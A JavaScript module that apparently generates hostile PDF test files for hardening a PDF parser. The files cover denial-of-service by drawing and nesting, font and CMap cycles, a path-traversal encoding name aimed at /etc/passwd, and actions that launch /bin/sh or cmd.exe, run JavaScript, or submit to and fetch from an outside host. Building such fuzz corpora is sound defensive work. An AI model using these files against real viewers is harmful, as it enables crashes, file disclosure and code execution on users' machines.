// PDF files that draw too much, whose fonts deceive, and whose actions run something; with them those of pdf-structure.mjs.
import { line } from "../samples/pdf.mjs";
import { each, fill, joinBytes, LINE, NUMBERS, noise, payloads, script, zlibbed } from "./kit.mjs";
import { FONT, file, packed, page, stream, TEXT } from "./pdf-objects.mjs";
import { streams, tables, trees } from "./pdf-structure.mjs";

/** What is drawn: too much of it, too deep, or too far away. */
function* drawn() {
  const begin = "BT /F1 8 Tf 40 700 Td ";
  yield ["operators-text-million.pdf", file(page(`${begin}${fill("(a) Tj ", 7_000_000)}ET`))];
  yield [
    "operators-ten-million.pdf",
    file({ 5: stream(zlibbed("BT /F1 8 Tf (a) Tj ET\n".repeat(1_000), 10_000), "/Filter /FlateDecode") }),
  ];
  yield ["operators-paths.pdf", file(page(`${fill("0 0 m 9 9 l S ", 3_000_000)}${TEXT}`))];
  yield ["operators-unknown.pdf", file(page(`${fill("zz ", 2_000_000)}${TEXT}`))];
  yield [
    "letters-scattered.pdf",
    file(page(each(50_000, (at) => line((at * 7919) % 595, (at * 104_729) % 842, "a"), ""))),
  ];
  yield ["letters-one-place.pdf", file(page(fill(line(40, 700, "a"), 2_000_000)))];
  yield ["lines-overlapping.pdf", file(page(each(20_000, (at) => line(40, 700 - at / 1_000, "words here"), "")))];
  yield ["letters-far-apart.pdf", file(page(each(5_000, (at) => line(at * 1e6, at * 1e6, "a"), "")))];
  for (const [name, piece] of Object.entries({
    states: "q ",
    "states-closed": "Q ",
    texts: "BT ",
    marks: "/A BMC ",
    arrays: "[ ",
    dictionaries: "<< /A ",
    strings: "( ",
    hex: "< ",
    images: "BI ",
  })) {
    yield [`nested-${name}.pdf`, file(page(`${fill(piece, 600_000)} ${TEXT}`))];
  }
  yield ["inline-image-open.pdf", file(page(`BI /W 99999 /H 99999 /BPC 8 /CS /RGB ID ${fill("x", 500_000)} ${TEXT}`))];
  for (const [at, number] of NUMBERS.entries()) {
    yield [
      `number-${at}.pdf`,
      file({
        ...page(`BT /F1 ${number} Tf ${number} ${number} Td ${number} Tz (a) Tj [(b) ${number} (c)] TJ ET ${TEXT}`),
        2: `<< /Type /Pages /Kids [4 0 R] /Count ${number} /MediaBox [0 0 ${number} ${number}] /Rotate ${number} /UserUnit ${number} >>`,
      }),
    ];
  }
  const form = (content, names) =>
    stream(content, `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << ${names} >> >>`);
  yield [
    "form-itself.pdf",
    file({ ...page(`/X Do ${TEXT}`, "/XObject << /X 6 0 R >>"), 6: form("/X Do", "/X 6 0 R") }),
  ];
  yield [
    "form-cycle.pdf",
    file({
      ...page(`/X Do ${TEXT}`, "/XObject << /X 6 0 R >>"),
      6: form("/X Do", "/X 7 0 R"),
      7: form("/X Do", "/X 6 0 R"),
    }),
  ];
  const levels = Object.fromEntries(
    Array.from({ length: 9 }, (_, at) => [6 + at, form(at === 8 ? TEXT : fill("/X Do ", 60), `/X ${7 + at} 0 R`)]),
  );
  yield ["form-tree.pdf", file({ ...page("/X Do", "/XObject << /X 6 0 R >>"), ...levels })];
  yield [
    "form-chain.pdf",
    file({
      ...page("/X Do", "/XObject << /X 6 0 R >>"),
      ...Object.fromEntries(Array.from({ length: 3_000 }, (_, at) => [6 + at, form("/X Do", `/X ${7 + at} 0 R`)])),
    }),
  ];
  yield [
    "image-huge.pdf",
    file({
      ...page(`/X Do ${TEXT}`, "/XObject << /X 6 0 R >>"),
      6: stream(
        "a",
        "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 16",
      ),
    }),
  ];
  yield [
    "pattern-cycle.pdf",
    file({
      ...page(`/Pattern cs /P scn 0 0 9 9 re f ${TEXT}`, "/Pattern << /P 6 0 R >>"),
      6: stream(
        "/Pattern cs /P scn 0 0 9 9 re f",
        "/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 1e-9 /YStep 1e-9 /Resources << /Pattern << /P 6 0 R >> >>",
      ),
    }),
  ];
}

/** Fonts, and what says which characters their letters are. */
function* fonts() {
  const mapped = (cmap) => ({ 3: FONT.replace(">>", "/ToUnicode 6 0 R >>"), 6: packed(cmap) });
  const map = (body) =>
    `/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <ff> endcodespacerange ${body} endcmap`;
  yield ["map-range-huge.pdf", file(mapped(map("1 beginbfrange <00000000> <ffffffff> <0041> endbfrange")))];
  yield [
    "map-ranges-many.pdf",
    file(mapped(map(`${fill("1 beginbfrange <0000> <ffff> <0041> endbfrange ", 50_000)}`))),
  ];
  yield [
    "map-long-texts.pdf",
    file({
      ...mapped(map(`1 beginbfchar <61> <${fill("0041", 40_000)}> endbfchar`)),
      5: packed(`BT /F1 8 Tf 40 700 Td (${fill("a", 3_000)}) Tj ET`),
    }),
  ];
  yield ["map-open.pdf", file(mapped(fill("beginbfchar <61> ", 500_000)))];
  yield [
    "map-uses-itself.pdf",
    file({
      3: "<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding 6 0 R /DescendantFonts [7 0 R] >>",
      6: stream(map(""), "/Type /CMap /CMapName /A /UseCMap 6 0 R"),
      7: "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>",
    }),
  ];
  yield [
    "map-named-inherited.pdf",
    file({
      3: "<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /constructor /DescendantFonts [7 0 R] >>",
      7: "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A >>",
    }),
  ];
  yield [
    "map-named-outside.pdf",
    file({
      3: "<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /..#2f..#2f..#2fetc#2fpasswd /DescendantFonts [7 0 R] >>",
      7: "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A >>",
    }),
  ];
  yield [
    "font-itself.pdf",
    file({ 3: "<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [3 0 R] >>" }),
  ];
  const charProc = "/X Do BT /F1 8 Tf (a) Tj ET";
  yield [
    "font-draws-itself.pdf",
    file({
      3: "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] /Resources << /Font << /F1 3 0 R >> >> >>",
      6: stream(charProc),
    }),
  ];
  yield [
    "font-program-noise.pdf",
    file({
      3: "<< /Type /Font /Subtype /Type1 /BaseFont /A /FontDescriptor 6 0 R >>",
      6: "<< /Type /FontDescriptor /FontName /A /Flags 4 /FontFile 7 0 R /FontFile2 7 0 R /FontFile3 7 0 R >>",
      7: stream(noise(50_000)),
    }),
  ];
  yield [
    "font-widths-huge.pdf",
    file({
      3: `<< /Type /Font /Subtype /Type1 /BaseFont /Courier /FirstChar -999999999 /LastChar 999999999 /Widths [${fill("1e308 ", 60_000)}] >>`,
    }),
  ];
  yield [
    "font-differences-many.pdf",
    file({
      3: `<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding << /Differences [${fill("999999999 /a ", 200_000)}] >> >>`,
    }),
  ];
  yield [
    "font-widths-of-ids.pdf",
    file({
      3: "<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [7 0 R] >>",
      7: "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /W [0 2147483647 500] /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>",
    }),
  ];
  yield [
    "function-loop.pdf",
    file(page(`/C cs 1 scn 0 0 9 9 re f ${TEXT}`, "/ColorSpace << /C [/Separation /A /DeviceRGB 6 0 R] >>")),
  ];
}

/** What a viewer would run, open or fetch. */
function* actions({ elsewhere }) {
  const code = script(elsewhere).replaceAll(/[()\\]/g, "\\$&");
  const catalog = (more) => ({ 1: `<< /Type /Catalog /Pages 2 0 R ${more} >>` });
  const list = {
    "script-open": catalog(`/OpenAction << /S /JavaScript /JS (${code}) >>`),
    "script-names": catalog(`/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${code}) >>] >> >>`),
    "script-page": {
      4: `<< /Type /Page /Parent 2 0 R /Contents 5 0 R /AA << /O << /S /JavaScript /JS (${code}) >> >> /Resources << /Font << /F1 3 0 R >> >> >>`,
    },
    launch: catalog("/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>"),
    uri: catalog(`/OpenAction << /S /URI /URI (${elsewhere}/uri) >>`),
    remote: catalog(`/OpenAction << /S /GoToR /F << /FS /URL /F (${elsewhere}/remote.pdf) >> /D [0 /Fit] >>`),
    submit: catalog(`/OpenAction << /S /SubmitForm /F (${elsewhere}/submit) >>`),
    form: catalog(`/AcroForm << /XFA [(template) 6 0 R] /Fields [] >>`),
    "external-stream": { 5: `<< /Length 0 /F (${elsewhere}/stream) /FFilter /FlateDecode >>\nstream\n\nendstream` },
    "external-image": {
      ...page(`/X Do ${TEXT}`, "/XObject << /X 6 0 R >>"),
      6: stream("", `/Subtype /Image /Width 1 /Height 1 /F << /FS /URL /F (${elsewhere}/image) >>`),
    },
    embedded: catalog("/Names << /EmbeddedFiles << /Names [(a.exe) << /EF << /F 5 0 R >> >>] >> >>"),
    links: {
      4: `<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>] /Resources << /Font << /F1 3 0 R >> >> >>`,
    },
  };
  for (const [name, objects] of Object.entries(list)) {
    const more = {
      6: stream(`<xdp:xdp xmlns:xdp="urn:xdp"><template><script>${script(elsewhere)}</script></template></xdp:xdp>`),
      ...objects,
    };
    yield [`action-${name}.pdf`, file(more)];
  }
  for (const [at, payload] of payloads(elsewhere).entries()) {
    const title = payload.replaceAll(/[()\\]/g, "\\$&");
    const lines = LINE.match(/.{1,90}(?: |$)/g).map((text, row) => line(40, 650 - 10 * row, text));
    yield [
      `inject-${at}.pdf`,
      file(
        { 6: `<< /Title (${title}) /Author (${title}) >>`, 5: stream(line(40, 700, payload) + lines.join("")) },
        { trailer: "/Info 6 0 R" },
      ),
    ];
  }
}

/** Files by name. */
export function* portable(options) {
  yield* drawn();
  yield* trees();
  yield* streams();
  yield* tables();
  yield* fonts();
  yield* actions(options);
  yield [
    "encrypted-unknown.pdf",
    file({}, { trailer: "/Encrypt << /Filter /constructor /V 99 /R 99 /Length 999999999 >> /ID [<00> <00>]" }),
  ];
  yield [
    "encrypted-rounds.pdf",
    file(
      {},
      {
        trailer: `/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /O <${"00".repeat(48)}> /U <${"00".repeat(48)}> /OE <${"00".repeat(32)}> /UE <${"00".repeat(32)}> /Perms <${"00".repeat(16)}> /P -4 >> /ID [<00> <00>]`,
      },
    ),
  ];
  yield ["header-late.pdf", joinBytes(fill("x", 900), file({}))];
  yield ["header-only.pdf", "%PDF-1.7\n"];
  yield ["percent-lines.pdf", `%PDF-1.7\n${fill("%", 1_000_000)}`];
}
